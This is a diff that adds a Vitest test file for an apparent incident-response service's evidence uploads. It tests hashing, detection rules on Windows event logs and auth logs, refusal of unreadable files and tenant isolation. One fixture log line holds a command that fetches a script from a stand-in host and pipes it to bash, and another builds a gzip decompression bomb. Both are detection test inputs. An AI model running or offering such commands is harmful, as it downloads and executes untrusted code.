@@ -1,0 +1,116 @@
+import { createHash } from 'node:crypto';
+import { readdir } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import { gzipSync } from 'node:zlib';
+import { beforeAll, describe, expect, it } from 'vitest';
+import type { Fields } from '../../../engine/event.js';
+import { loadUploadKinds } from '../../../engine/respond/uploads/kinds/index.js';
+import { lookInto } from '../../../engine/respond/uploads/work.js';
+import { addTenant, NOW } from '../../commands/world.js';
+import { writeEventLog } from '../../ingest/evtx/writer.js';
+import { makeZip } from '../../ingest/makezip.js';
+import { uploadWorld } from './world.js';
+
+const cleared = (id: number): Fields => ({
+  Event: {
+    System: {
+      Provider: {
+        '#attributes': { Name: 'Microsoft-Windows-Eventlog', Guid: '{fc65ddd8-d6ef-4962-83d5-6e5cfe9ce148}' },
+      },
+      ...{ EventID: 1102, Level: 4, Keywords: '0x4020000000000000', EventRecordID: id, Channel: 'Security' },
+      TimeCreated: { '#attributes': { SystemTime: '2026-11-23T03:00:00.1234567Z' } },
+      Execution: { '#attributes': { ProcessID: 4, ThreadID: 8 } },
+      ...{ Computer: 'dc-01.acme.test', Security: { '#attributes': { UserID: 'S-1-5-18' } } },
+    },
+    EventData: { SubjectUserName: 'mallory', SubjectDomainName: 'ACME' },
+  },
+});
+const BAD =
+  '2026-11-19T08:36:17.843000+00:00 web-02 sudo:      www : TTY=unknown ; PWD=/home/www ; USER=root ; COMMAND=/bin/sh -c wget -qO- https://cdn.lure.example/x|bash';
+const GOOD =
+  '2026-11-19T08:36:10.000000+00:00 web-02 sudo:   okafor : TTY=pts/0 ; PWD=/home/okafor ; USER=root ; COMMAND=/usr/bin/ls';
+
+describe('a file given to a case', () => {
+  let w: Awaited<ReturnType<typeof uploadWorld>>;
+  beforeAll(async () => {
+    w = await uploadWorld();
+  });
+
+  it('is kept with its hash; an event log goes through the rules, and what it says stands on the timeline at its own time', async () => {
+    const bytes = writeEventLog([cleared(1), cleared(2)]);
+    const { evidence, examined, text, log, mine, observables } = await w.give('Security.evtx', bytes);
+    expect(evidence.sha256).toBe(createHash('sha256').update(bytes).digest('hex'));
+    expect(examined).toMatchObject({ kind: 'eventlog', isBad: true, refused: null, at: NOW });
+    expect(text).toMatch(/^Windows event log: 2 events from 2026-11-23 03:00 UTC/);
+    expect(text).toMatch(/(?:medium|high|critical): .*(?:cleared).* 2 ×/i);
+    expect(mine.map(({ kind, actor }) => [kind, actor])).toEqual([
+      ['evidence', 'ana'],
+      ['examined', 'mdr'],
+    ]);
+    const pinned = log.filter(({ kind }) => kind === 'pinned');
+    expect(pinned[0]).toMatchObject({ when: Date.parse('2026-11-23T03:00:00.123Z'), actor: 'mdr' });
+    expect(observables.map(({ value }) => value)).toContain('dc-01.acme.test');
+    expect((await w.queues.queue('changes').getJobs()).map(({ data }) => data)).toContainEqual({
+      ...{ tenant: 'acme', kind: 'case', number: w.number },
+    });
+    // Delivered again, nothing is said twice.
+    await w.acme.evidence.update({ _id: evidence._id }, { $unset: { examined: 1 } });
+    await lookInto(w.parts, 'acme', evidence._id);
+    expect((await w.acme.cases.findOne({ number: w.number }))!.log).toHaveLength(log.length);
+  });
+
+  it('a log goes through formats and rules, packed or not; what is fine is said to be', async () => {
+    for (const [name, data] of [
+      ['auth.log', `${GOOD}\n${BAD}\n`],
+      ['auth.log.gz', gzipSync(`${GOOD}\n${BAD}\n`)],
+      ['auth.log.zip', makeZip([{ name: 'auth.log', content: `${GOOD}\n${BAD}\n` }])],
+    ] as const) {
+      const { examined, text } = await w.give(name, data as Buffer);
+      expect([name, examined.isBad, examined.kind]).toEqual([name, true, 'logs']);
+      expect(text).toContain('Log: 2 events');
+      expect(text).toContain('web-02');
+    }
+    const { examined, text } = await w.give('fine.log', `${GOOD}\n`);
+    expect(examined.isBad).toBe(false);
+    expect(text).toContain('No rule and no indicator fired.');
+  });
+
+  it('what cannot be read is refused with a code, and is kept all the same', async () => {
+    const bomb = gzipSync(Buffer.alloc(80 * 1024 * 1024, 'a'));
+    for (const [name, data, code] of [
+      ['photo.bin', Buffer.from([0, 1, 2, 3, 0xff, 0xfe]), 'MDR_UPLOAD_BAD'],
+      ['evil.exe', Buffer.concat([Buffer.from('MZ'), Buffer.alloc(100)]), 'MDR_UPLOAD_BAD'],
+      ['archive.zip', makeZip([{ name: 'x.exe', content: 'MZ' }]), 'MDR_UPLOAD_BAD'],
+      ['poem.txt', 'roses are red\nviolets are blue\n', 'MDR_FORMAT_UNKNOWN'],
+      ['locked.log.zip', makeZip([{ name: 'a.log', content: GOOD, encrypted: true }]), 'MDR_FILE_UNREADABLE'],
+      ['nested.log.zip', makeZip([{ name: 'a.zip', content: 'PK' }]), 'MDR_FILE_UNREADABLE'],
+      ['bomb.log.gz', bomb, 'MDR_FILE_UNREADABLE'],
+      ['broken.log.gz', gzipSync(GOOD).subarray(0, 30), 'MDR_FILE_UNREADABLE'],
+      ['note.eml', 'hello', 'MDR_UPLOAD_BAD'],
+    ] as const) {
+      const { examined, text, evidence, mine } = await w.give(name, data as Buffer);
+      expect([name, examined.refused]).toEqual([name, code]);
+      expect(evidence.size).toBe(Buffer.from(data).length);
+      expect(text, name).not.toContain(tmpdir());
+      expect(mine.at(-1)?.text).toContain(`not looked into (${code})`);
+    }
+    // Nothing of theirs is left on the disk.
+    expect((await readdir(tmpdir())).filter((name) => name.startsWith('mdr-upload-'))).toEqual([]);
+  });
+
+  it('a case of another tenant finds neither file nor finding', async () => {
+    const { evidence } = await w.give('mine.log', `${GOOD}\n\n`);
+    await addTenant(w.store, 'zeta', 'Zeta');
+    const zeta = await w.store.forTenant('zeta');
+    expect(await zeta.evidence.findOne({ _id: evidence._id })).toBeNull();
+    expect(await zeta.blobs.read(evidence._id)).toBeNull();
+    await lookInto(w.parts, 'zeta', evidence._id);
+  });
+
+  it('each kind has a name of its own and is asked in order', async () => {
+    const kinds = await loadUploadKinds();
+    expect(new Set(kinds.map(({ name }) => name)).size).toBe(kinds.length);
+    expect(kinds.map(({ rank }) => rank)).toEqual(kinds.map(({ rank }) => rank).toSorted((a, b) => a - b));
+    expect(kinds.map(({ name }) => name)).toEqual(expect.arrayContaining(['eventlog', 'mail', 'logs']));
+  });
+});
